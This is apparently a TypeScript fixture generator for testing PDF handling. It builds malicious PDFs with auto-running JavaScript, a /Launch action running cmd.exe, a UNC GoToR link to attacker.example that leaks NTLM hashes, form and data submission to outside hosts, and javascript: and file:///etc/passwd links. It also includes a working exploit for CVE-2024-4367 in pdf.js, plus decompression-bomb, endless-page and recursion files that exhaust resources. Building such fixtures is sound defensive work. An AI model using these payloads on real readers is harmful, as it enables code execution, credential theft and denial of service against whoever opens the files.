import { deflateSync } from 'node:zlib'
import { deflatedSpaces } from '../files/zip-writer.ts'
import { onePagePdf, pdfStream, pdfString, rawPdf } from '../files/raw-pdf.ts'
import { plainHtml } from './markup-files.ts'
import { elsewhere, payload } from './payload.ts'
import { boxFont } from './type1-font.ts'

const script = (mark: string): string => `<< /S /JavaScript /JS ${pdfString(payload(mark))} >>`

/** On opening, on saving, on printing, on turning to the page and away from it. */
export const eventsPdf = (): Uint8Array =>
  onePagePdf({
    words: 'Script at every event',
    catalogue:
      '/OpenAction 6 0 R /AA << /WC 6 0 R /WS 6 0 R /DS 6 0 R /WP 6 0 R /DP 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
    page: '/AA << /O 6 0 R /C 6 0 R >>',
    more: [script('pdf-events')],
  })

const opening = (words: string, action: string): Uint8Array =>
  onePagePdf({ words, catalogue: `/OpenAction ${action}`, page: `/AA << /O ${action} >>` })

export const launchPdf = (): Uint8Array =>
  opening('Starts a program', '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>')
export const uriPdf = (): Uint8Array =>
  opening('Opens an address', `<< /S /URI /URI (${elsewhere('opened')}) >>`)
export const scriptUriPdf = (): Uint8Array =>
  opening('Opens a script', `<< /S /URI /URI ${pdfString(`javascript:${payload('pdf-uri')}`)} >>`)
/** A share of Windows: asking for it would hand over a hash of the password. */
export const remotePdf = (): Uint8Array =>
  opening(
    'Goes to another file',
    String.raw`<< /S /GoToR /F (\\\\attacker.example\\share\\a.pdf) /D [0 /Fit] /NewWindow true >>`,
  )
export const importPdf = (): Uint8Array =>
  opening('Imports data', `<< /S /ImportData /F << /FS /URL /F (${elsewhere('data.fdf')}) >> >>`)

export const formPdf = (): Uint8Array =>
  onePagePdf({
    words: 'A form that sends itself',
    catalogue: `/OpenAction 8 0 R /AcroForm << /Fields [6 0 R] /NeedAppearances true /CO [6 0 R] >>`,
    page: '/Annots [6 0 R]',
    more: [
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (value) /Rect [20 100 200 120] /AA << /K 7 0 R /F 7 0 R /V 7 0 R /C 7 0 R /Fo 7 0 R >> >>',
      script('pdf-form'),
      `<< /S /SubmitForm /F << /FS /URL /F (${elsewhere('submit')}) >> /Flags 4 >>`,
    ],
  })

export const xfaPdf = (): Uint8Array =>
  onePagePdf({
    words: 'A form of the XFA kind',
    catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
    more: [
      pdfStream(
        '<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">' +
          `<subform name="a"><pageSet><pageArea><contentArea/><medium short="300pt" long="400pt"/></pageArea></pageSet>` +
          `<event activity="initialize"><script contentType="application/x-javascript">${payload('xfa')}</script></event>` +
          `<draw><value><image href="${elsewhere('xfa.png')}"/></value></draw></subform></template></xdp:xdp>`,
      ),
    ],
  })

const LINKS = [
  pdfString(`javascript:${payload('pdf-link')}`),
  pdfString(`data:text/html,<script>${payload('pdf-data')}</script>`),
  '(file:///etc/passwd)',
  `(${elsewhere('link')})`,
]

export const linksPdf = (): Uint8Array =>
  onePagePdf({
    words: 'Links to everywhere',
    page: `/Annots [${LINKS.map(
      (uri, index) =>
        `<< /Type /Annot /Subtype /Link /Rect [20 ${200 - index * 30} 200 ${220 - index * 30}] /A << /S /URI /URI ${uri} >> >>`,
    ).join(' ')}]`,
  })

/** A page and a film in the document, the film with sound from elsewhere. */
export const embeddedPdf = (): Uint8Array =>
  onePagePdf({
    words: 'Files inside the file',
    catalogue: '/Names << /EmbeddedFiles << /Names [(a.html) 6 0 R] >> >> /PageMode /UseAttachments',
    page: `/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [20 20 40 40] /FS 6 0 R >> << /Type /Annot /Subtype /Movie /Rect [60 20 90 40] /Movie << /F << /FS /URL /F (${elsewhere('film.mov')}) >> >> /A true >>]`,
    more: [
      '<< /Type /Filespec /F (a.html) /EF << /F 7 0 R >> >>',
      pdfStream(plainHtml('pdf-embedded'), '/Type /EmbeddedFile /Subtype /text#2Fhtml '),
    ],
  })

/** Streams that say their bytes are elsewhere: a font, a picture. */
export const externalPdf = (): Uint8Array =>
  onePagePdf({
    words: 'Parts from elsewhere',
    resources: '/XObject << /Im0 6 0 R >>',
    drawing: 'q 100 0 0 100 20 20 cm /Im0 Do Q',
    more: [
      pdfStream(
        '',
        `/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${elsewhere('image')}) >> `,
      ),
    ],
  })

/**
 * CVE-2024-4367: up to version 4.1 pdf.js put the matrix of a font into code that draws its glyphs. It takes a font of
 * its own without a matrix, and text used as a path.
 */
export function fontMatrixPdf(): Uint8Array {
  const { bytes, lengths } = boxFont()
  const matrix = `[0.001 0 0 0.001 0 ${pdfString(`0); ${payload('font-matrix')}; //`)}]`
  return onePagePdf({
    words: 'A font with a program for a matrix',
    resources: '/ExtGState << >> /Font << /F0 5 0 R /F1 6 0 R >>',
    drawing: 'q BT /F1 90 Tf 7 Tr 20 60 Td (AAA) Tj ET 0.1 0.3 0.6 rg 0 0 400 300 re f Q',
    more: [
      `<< /Type /Font /Subtype /Type1 /BaseFont /Box /FirstChar 65 /LastChar 65 /Widths [700] /FontMatrix ${matrix} /FontDescriptor 7 0 R >>`,
      '<< /Type /FontDescriptor /FontName /Box /Flags 32 /FontBBox [0 0 700 700] /ItalicAngle 0 /Ascent 700 /Descent 0 /CapHeight 700 /StemV 80 /FontFile 8 0 R >>',
      pdfStream(bytes, `/Length1 ${lengths[0]} /Length2 ${lengths[1]} /Length3 0 `),
    ],
  })
}

/** A hundred million pages, of which the first and the last exist. */
export const endlessPdf = (): Uint8Array =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 100000000 /Kids [3 0 R 4 0 R] >>',
    '<< /Type /Pages /Parent 2 0 R /Count 99999999 /Kids [4 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 5 0 R /Resources << /Font << /F0 6 0 R >> >> >>',
    pdfStream('BT /F0 18 Tf 20 260 Td (One of very many pages) Tj ET'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ])

/** Ten kilometres by ten. */
export const hugePagePdf = (): Uint8Array =>
  onePagePdf({ words: 'A page of ten kilometres', page: '/MediaBox [0 0 28000000 28000000]' })

/** Packed twice: a few kilobytes that unpack to a gibibyte of spaces, to be read as drawing. */
export const packedTwicePdf = (): Uint8Array => {
  const zlibHeader = Buffer.from('789c', 'hex')
  const once = Buffer.concat([zlibHeader, deflatedSpaces('', 1024, '')])
  return onePagePdf({
    words: 'Packed twice',
    page: '/Contents [4 0 R 6 0 R]',
    more: [pdfStream(deflateSync(once, { level: 9 }), '/Filter [/FlateDecode /FlateDecode] ')],
  })
}

/** Deep enough to exhaust the stack of whoever reads it by recursion. */
export const deepPdf = (): Uint8Array =>
  onePagePdf({ words: 'Brackets in brackets', page: `/Deep ${'['.repeat(50_000)}${']'.repeat(50_000)}` })

/** A drawing that draws itself. */
export const selfDrawingPdf = (): Uint8Array =>
  onePagePdf({
    words: 'A drawing of itself',
    resources: '/XObject << /X 6 0 R >>',
    drawing: '/X Do',
    more: [
      pdfStream(
        '/X Do /X Do',
        '/Type /XObject /Subtype /Form /BBox [0 0 400 300] /Resources << /XObject << /X 6 0 R >> >> ',
      ),
    ],
  })
